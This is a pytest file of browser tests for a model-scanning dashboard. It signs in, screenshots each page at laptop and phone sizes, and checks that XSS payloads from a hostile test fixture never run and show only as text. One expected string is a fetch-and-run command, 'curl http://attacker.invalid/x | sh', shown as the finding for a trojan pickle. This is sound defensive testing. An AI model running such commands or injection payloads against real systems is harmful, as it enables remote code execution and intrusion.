"""The dashboard in a real headless Chromium (Debian's chromium + chromedriver, driven by Selenium).

Against the real ``mlvet serve`` subprocess of the session: sign in through the login form, visit every
page at a laptop (1366×768) and a phone (390×844) size, save a full-page screenshot of each as a test
artifact (``$MLVET_TEST_ARTIFACTS/dashboard`` when set, else a pytest temporary folder, printed), and check
what a person would see: the page's heading and key content, no sideways scrolling, the style sheet
applied, nothing requested from another origin. The XSS test visits every page that shows text from the
hostile tree and asserts that no payload ran (``window.__xss`` unset, no alert) and none became markup,
while the text itself is visible.

Skipped only when chromium or chromedriver is missing and ``CI`` is unset; with ``CI`` set that is a failure.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from _fleet import HOSTILE_HOST, IMG, SCRIPT, SVG, VISIBLE
from selenium.webdriver.remote.webdriver import WebDriver

from conftest import Served, Traffic

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "trust"))
from _png import read_png

CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else None)
DRIVER = shutil.which("chromedriver") or ("/usr/bin/chromedriver" if os.path.exists("/usr/bin/chromedriver") else None)
SIZES = {"laptop": (1366, 768), "phone": (390, 844)}
#: Cap of a full-page screenshot's height (a runaway page must not make a gigantic PNG).
MAX_SHOT_HEIGHT = 6000


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = os.environ.get("MLVET_TEST_ARTIFACTS")
    folder = Path(root) / "dashboard" if root else tmp_path_factory.mktemp("dashboard-screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    print(f"\ndashboard screenshots: {folder}")
    return folder


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebDriver]:
    if CHROMIUM is None or DRIVER is None:
        if os.environ.get("CI"):
            pytest.fail("chromium and chromedriver are required in CI for the dashboard browser tests "
                        "(apt-get install chromium chromium-driver)")
        pytest.skip("chromium or chromedriver is not installed")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    profile = tmp_path_factory.mktemp("chromium-profile")
    opts = webdriver.ChromeOptions()
    opts.binary_location = CHROMIUM
    for arg in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", f"--user-data-dir={profile}"):
        opts.add_argument(arg)
    env_home = tempfile.mkdtemp(prefix="chromium-home-")
    service = Service(DRIVER, env={**os.environ, "HOME": env_home})
    driver = webdriver.Chrome(service=service, options=opts)
    driver.set_page_load_timeout(30)
    driver.set_script_timeout(10)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(env_home, ignore_errors=True)


def _sign_in(driver: WebDriver, served: Served) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    d = driver
    d.get(served.base + "/ui/login")
    d.delete_all_cookies()  # start signed out whatever an earlier test left
    d.get(served.base + "/ui/assets?verdict=critical")
    assert "/ui/login?next=" in d.current_url, "an anonymous visit must land on the login page"
    d.find_element(By.NAME, "token").send_keys(served.read_token)
    d.find_element(By.CSS_SELECTOR, "form button[type=submit]").click()
    target = served.base + "/ui/assets?verdict=critical"
    WebDriverWait(d, 20).until(lambda drv: drv.current_url == target)  # login returns to the page asked for
    WebDriverWait(d, 20).until(lambda drv: drv.execute_script("return document.readyState") == "complete")


def _viewport(driver: WebDriver, label: str) -> tuple[int, int]:
    """Emulate the screen: exact CSS-pixel viewport, and a touch phone's behaviour for the phone size."""
    width, height = SIZES[label]
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {
        "width": width, "height": height, "deviceScaleFactor": 1, "mobile": label == "phone"})
    return width, height


def _shot(driver: WebDriver, folder: Path, name: str, size: tuple[int, int]) -> Path:
    """A full-page screenshot at the viewport's width (the page's whole height, capped)."""
    import base64

    d = driver
    height = int(d.execute_script("return document.documentElement.scrollHeight"))
    clip = {"x": 0, "y": 0, "width": size[0], "height": max(size[1], min(height, MAX_SHOT_HEIGHT)), "scale": 1}
    data = d.execute_cdp_cmd("Page.captureScreenshot", {
        "format": "png", "captureBeyondViewport": True, "clip": clip})["data"]
    path = folder / f"{name}.png"
    path.write_bytes(base64.b64decode(data))
    return path


def _pages(served: Served) -> list[tuple[str, str, str, list[str]]]:
    """(name, path, heading start, texts that must be visible) for every page of the dashboard."""
    fleet = served.fleet
    gpt2 = fleet.asset("tiny-gpt2")
    trojan = fleet.asset("trojan.pt")
    second = fleet.info["second"]
    return [
        ("overview", "/ui/", "Overview", ["Changes since last week", "By verdict", "By host", "laptop-ana"]),
        ("assets", "/ui/assets", "Assets (6)", ["tiny-gpt2", "trojan.pt", VISIBLE["folder"]]),
        ("assets-filtered", "/ui/assets?verdict=critical&host=lab-gpu-01", "Assets (2)", ["trojan.pt", "second.pkl"]),
        ("search", "/ui/assets?q=gpt2", "Assets (2)", ["tiny-gpt2", "gpt2-local"]),
        ("asset-model", f"/ui/assets/{gpt2.id}", "tiny-gpt2", ["Report card", "Findings (1)", "openai-community/gpt2",
                                                              "laptop-ana", "model.safetensors"]),
        ("asset-malicious", f"/ui/assets/{trojan.id}", "trojan.pt", ["PKL100", "curl http://attacker.invalid/x | sh"]),
        ("hosts", "/ui/hosts", "Hosts (5)", ["lab-gpu-01", "laptop-ana", HOSTILE_HOST, "build-runner-7",
                                             "ml-platform"]),
        ("runs", "/ui/runs", "Runs", ["lab-gpu-01", "laptop-ana"]),
        ("run", f"/ui/runs/{second.id}", f"Run #{second.id}", ["worse", "second.pkl"]),
        ("gateway", "/ui/gateway", "Gateway log", ["org/gpt2", "org/xss", "refused", "served", "notebook-bob"]),
    ]


def test_every_page_at_laptop_and_phone_size(browser: WebDriver, served: Served, gateway_traffic: Traffic,
                                             artifacts: Path) -> None:
    from selenium.webdriver.common.by import By

    d = browser
    _viewport(d, "laptop")
    _sign_in(d, served)
    shots = []
    for label in SIZES:
        size = _viewport(d, label)
        for name, path, heading, texts in _pages(served):
            d.get(served.base + path)
            h1 = d.find_element(By.TAG_NAME, "h1").text
            assert h1.startswith(heading), (label, name, h1)
            body = d.find_element(By.TAG_NAME, "body").text
            for text in texts:
                assert text in body, (label, name, text)
            overflow = d.execute_script(
                "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert overflow <= 0, f"{name} scrolls sideways by {overflow}px at {label} size"
            header = d.find_element(By.CSS_SELECTOR, "header.top")
            assert header.value_of_css_property("background-color") in ("rgba(36, 41, 47, 1)", "rgb(36, 41, 47)")
            for link in d.find_elements(By.CSS_SELECTOR, "header.top nav a"):
                assert link.is_displayed() and link.size["width"] > 0, (label, name, link.text)
            origins = d.execute_script(
                "return performance.getEntriesByType('resource').map(e => e.name)")
            assert all(o.startswith(served.base + "/") for o in origins), origins
            shot = _shot(d, artifacts, f"{label}-{name}", size)
            image = read_png(shot.read_bytes())
            assert (image.width, image.height >= size[1]) == (size[0], True), (shot, image.width, image.height)
            assert len(image.colours(step=3)) > 20, f"{shot} is nearly blank"
            shots.append(shot)
    # The login page, signed out.
    d.delete_all_cookies()
    for label in SIZES:
        size = _viewport(d, label)
        d.get(served.base + "/ui/")
        assert d.find_element(By.TAG_NAME, "h1").text == "Sign in"
        shots.append(_shot(d, artifacts, f"{label}-login", size))
    print(f"{len(shots)} screenshots in {artifacts}")


def test_hostile_text_never_runs_and_shows_as_text(browser: WebDriver, served: Served, gateway_traffic: Traffic,
                                                   artifacts: Path) -> None:
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By

    d = browser
    _viewport(d, "laptop")
    _sign_in(d, served)
    fleet = served.fleet
    folder = fleet.asset(VISIBLE["folder"])
    drop = fleet.asset(VISIBLE["file"])
    pages = {
        "overview": ("/ui/", [VISIBLE["folder"], VISIBLE["file"], HOSTILE_HOST]),
        "assets": ("/ui/assets", [VISIBLE["folder"], VISIBLE["file"], HOSTILE_HOST]),
        "search": ("/ui/assets?q=" + quote(IMG), [VISIBLE["file"]]),
        "host-filter": ("/ui/assets?host=" + quote(HOSTILE_HOST), [VISIBLE["folder"], HOSTILE_HOST]),
        "asset-card": (f"/ui/assets/{folder.id}", [VISIBLE["folder"], SCRIPT, HOSTILE_HOST]),
        "asset-evidence": (f"/ui/assets/{drop.id}", [VISIBLE["file"], SCRIPT, HOSTILE_HOST]),
        "hosts": ("/ui/hosts", [HOSTILE_HOST]),
        "runs": ("/ui/runs", [HOSTILE_HOST]),
        "runs-filter": ("/ui/runs?host=" + quote(HOSTILE_HOST), [HOSTILE_HOST]),
        "run": (f"/ui/runs/{_hostile_run(fleet.db_url)}", [VISIBLE["file"], VISIBLE["folder"], HOSTILE_HOST]),
        "gateway": ("/ui/gateway?verdict=refused", ["org/xss", SCRIPT]),
    }
    for name, (path, visible) in pages.items():
        d.get(served.base + path)
        assert d.execute_script("return window.__xss === undefined && window.parent.__xss === undefined"), name
        try:
            alert = d.switch_to.alert
        except NoAlertPresentException:
            alert = None
        assert alert is None, f"an alert opened on {name}"
        injected = d.execute_script(
            "return Array.from(document.querySelectorAll("
            "'script, iframe, img, object, embed, [onerror], [onload], [onmouseover]')).map(e => e.outerHTML)")
        assert injected == [], f"scanned text became markup on {name}: {injected}"
        body = d.find_element(By.TAG_NAME, "body").text
        for text in visible:
            assert text in body, f"{text!r} is not shown as text on {name}"
        _shot(d, artifacts, f"xss-{name}", SIZES["laptop"])
    assert SVG in VISIBLE["folder"]


def _hostile_run(db_url: str) -> int:
    from mlvet.store import Store

    with Store(db_url) as store:
        return next(r.id for r in store.runs(limit=50) if r.host == HOSTILE_HOST and r.id is not None)
